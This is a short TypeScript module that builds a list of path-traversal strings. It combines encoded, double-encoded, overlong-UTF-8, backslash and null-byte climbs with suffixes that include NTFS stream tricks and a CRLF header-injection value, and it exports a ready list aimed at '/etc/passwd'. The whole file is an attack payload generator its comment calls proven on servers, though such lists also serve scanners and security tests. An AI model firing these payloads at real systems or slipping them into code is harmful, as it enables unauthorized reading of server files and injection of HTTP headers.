/**
 * Path traversals that have worked on servers: plain, encoded once and twice, over-long, with backslashes, null bytes
 * and parameters.
 */
const climbs = [
  '../',
  '..%2f',
  '..%2F',
  '%2e%2e/',
  '%2e%2e%2f',
  '.%2e/',
  '%2e./',
  '..%252f',
  '%252e%252e%252f',
  '..\\',
  '..%5c',
  '%2e%2e%5c',
  '..%255c',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '..%ef%bc%8f',
  '..;/',
  '..%00/',
  '....//',
  '..../',
  '...//',
  '..//',
  './../',
  '/..',
  '//',
  '/./',
  '%2f',
  '%2f%2f',
  '\\',
  '%5c',
]
const endings = ['', '%00', '%00.html', '%00.js', '?', '#', '/', '/.', '%20', '.', '::$DATA', ';.js', '%0a', '%0d%0aX-Injected:1']

/** Every target behind one to six `..`, and with every ending. */
export function traversalsTo(targets: string[]): string[] {
  const paths = climbs.flatMap((climb) => [1, 3, 6].flatMap((depth) => targets.map((target) => climb.repeat(depth) + target)))
  return [
    ...paths,
    ...targets.flatMap((target) => endings.map((ending) => `../../${target}${ending}`)),
    ...targets.flatMap((target) => endings.map((ending) => `${target}${ending}`)),
  ]
}

/** The same, for a file that exists on every system. */
export const traversals = traversalsTo(['etc/passwd'])
